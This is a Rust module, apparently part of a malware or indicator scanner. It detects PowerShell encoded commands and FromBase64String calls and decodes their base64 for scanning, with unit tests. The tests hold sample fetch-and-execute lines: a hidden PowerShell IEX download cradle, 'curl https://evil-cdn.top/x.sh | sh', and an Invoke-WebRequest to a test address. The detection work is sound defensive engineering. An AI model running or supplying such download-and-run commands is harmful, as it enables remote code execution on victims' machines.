//! Encoded command lines: PowerShell's `-EncodedCommand` (and every abbreviation it accepts:
//! `-e`, `-ec`, `-en`, `-enc`, … `-encodedcommand`, with `-` or `/`), whose argument is base64 of
//! UTF-16LE text, and `FromBase64String('…')` in a script, base64 of UTF-16LE or UTF-8 text. The
//! decoded text is returned for scanning; what does not decode to text is dropped.

use std::sync::LazyLock;

use base64::Engine as _;
use regex::Regex;

/// The shortest base64 argument worth decoding (a URL or an address needs more).
const MIN_BASE64: usize = 12;

static SWITCH: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:^|[\s"'])[-/\u{2013}]([a-z]{1,14})[\s:]+['"]?[A-Za-z0-9+/]{12}"#).ok()
});
static FROM_BASE64: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#"(?i)FromBase64String\(\s*['"][A-Za-z0-9+/= \t\r\n]{12}"#).ok());

/// The patterns are constants (a test compiles each); one that failed to compile finds nothing.
#[cfg(test)]
fn patterns() -> [&'static LazyLock<Option<Regex>>; 2] {
    [&SWITCH, &FROM_BASE64]
}

/// Whether `switch` is one PowerShell reads as `-EncodedCommand`: `ec`, or a prefix of
/// `encodedcommand` (PowerShell takes any unambiguous prefix; `e` alone means it too).
fn encoded_command_switch(switch: &str) -> bool {
    let switch = switch.to_ascii_lowercase();
    switch == "ec" || (!switch.is_empty() && "encodedcommand".starts_with(&switch))
}

/// Text from base64: UTF-16LE when it looks like it (every other byte zero for ASCII text), else
/// UTF-8; `None` when it is neither.
pub fn base64_text(encoded: &str) -> Option<String> {
    let compact: String = encoded.chars().filter(|c| !c.is_whitespace()).collect();
    let trimmed = compact.trim_end_matches('=');
    if trimmed.len() < MIN_BASE64 {
        return None;
    }
    let bytes = base64::engine::general_purpose::STANDARD_NO_PAD.decode(trimmed).ok()?;
    let zeros_at_odd = bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count();
    let text = if bytes.len() >= 2 && zeros_at_odd * 2 >= bytes.len() / 2 {
        let units: Vec<u16> = bytes.chunks_exact(2).map(|p| u16::from_le_bytes([p[0], p[1]])).collect();
        String::from_utf16(&units).ok()?
    } else {
        String::from_utf8(bytes).ok()?
    };
    // Decoded binary that happens to be valid text is not a command.
    let printable = text.chars().filter(|c| !c.is_control() || c.is_whitespace()).count();
    (printable * 10 >= text.chars().count() * 9).then_some(text)
}

/// One encoded command: its decoded text, and the byte span of the base64 it was decoded from
/// (the scanner skips that span: base64 holds no indicator, only lookalikes).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decoded {
    /// The text the base64 stood for.
    pub text: String,
    /// Where the base64 lies in the scanned text.
    pub span: (usize, usize),
}

/// The base64 run starting at `start` (letters, digits, `+`, `/`, then `=` padding; with
/// `spaces`, whitespace inside it too): its end. Found by hand rather than by a capture group,
/// whose engine would walk a 64 KB argument far more slowly than this loop.
fn base64_run(text: &str, start: usize, spaces: bool) -> usize {
    let bytes = text.as_bytes();
    let mut end = start;
    while end < bytes.len()
        && (bytes[end].is_ascii_alphanumeric()
            || matches!(bytes[end], b'+' | b'/')
            || (spaces && bytes[end].is_ascii_whitespace()))
    {
        end += 1;
    }
    while end < bytes.len() && bytes[end] == b'=' {
        end += 1;
    }
    end
}

/// Every encoded command in `text`, in order.
pub fn encoded_commands(text: &str) -> Vec<Decoded> {
    let mut out = Vec::new();
    if let Some(pattern) = SWITCH.as_ref() {
        for caps in pattern.captures_iter(text) {
            let (Some(whole), Some(switch)) = (caps.get(0), caps.get(1)) else { continue };
            if !encoded_command_switch(switch.as_str()) {
                continue;
            }
            // The match ends 12 characters into the argument.
            let start = whole.end() - 12;
            let end = base64_run(text, start, false);
            if let Some(decoded) = base64_text(&text[start..end]) {
                out.push(Decoded { text: decoded, span: (start, end) });
            }
        }
    }
    if let Some(pattern) = FROM_BASE64.as_ref() {
        for found in pattern.find_iter(text) {
            let start = found.end() - 12;
            let end = base64_run(text, start, true);
            // `FromBase64String('…')`: the argument must be closed by its quote.
            let closed = text[end..].trim_start().starts_with(['\'', '"']);
            if closed && let Some(decoded) = base64_text(&text[start..end]) {
                out.push(Decoded { text: decoded, span: (start, end) });
            }
        }
    }
    out
}

/// The decoded texts of every encoded command in `text`, in order.
pub fn decoded_commands(text: &str) -> Vec<String> {
    encoded_commands(text).into_iter().map(|d| d.text).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16_base64(text: &str) -> String {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn every_pattern_compiles() {
        assert!(patterns().iter().all(|p| p.is_some()));
    }

    #[test]
    fn microsofts_documented_encoding_and_its_abbreviations() {
        // about_PowerShell_exe: `$bytes = [Text.Encoding]::Unicode.GetBytes($command)` and
        // `[Convert]::ToBase64String($bytes)`, i.e. base64 of UTF-16LE.
        let command = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9:8080/a.ps1')";
        let encoded = utf16_base64(command);
        for switch in ["-EncodedCommand", "-enc", "-e", "-ec", "/en", "-ENCODEDC"] {
            let line = format!("powershell.exe -NoP -W Hidden {switch} {encoded}");
            assert_eq!(decoded_commands(&line), [command], "{switch}");
        }
        // `-ep` is -ExecutionPolicy, `-ex` too: not encoded commands.
        assert!(decoded_commands(&format!("powershell -ep {encoded}")).is_empty());
    }

    #[test]
    fn from_base64_string_in_utf8_and_utf16() {
        let utf8 = base64::engine::general_purpose::STANDARD.encode("curl https://evil-cdn.top/x.sh | sh");
        let script = format!("$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{utf8}'))");
        assert_eq!(decoded_commands(&script), ["curl https://evil-cdn.top/x.sh | sh"]);
        let utf16 = utf16_base64("Invoke-WebRequest http://198.51.100.3/p");
        assert_eq!(
            decoded_commands(&format!("[Convert]::FromBase64String(\"{utf16}\")")),
            ["Invoke-WebRequest http://198.51.100.3/p"]
        );
    }

    #[test]
    fn what_does_not_decode_to_text_is_dropped() {
        assert!(decoded_commands("powershell -enc AAECAwQFBgcICQoLDA0ODxAREhM=").is_empty());
        assert!(decoded_commands("powershell -enc notbase64!!").is_empty());
        assert!(base64_text("short").is_none());
    }
}
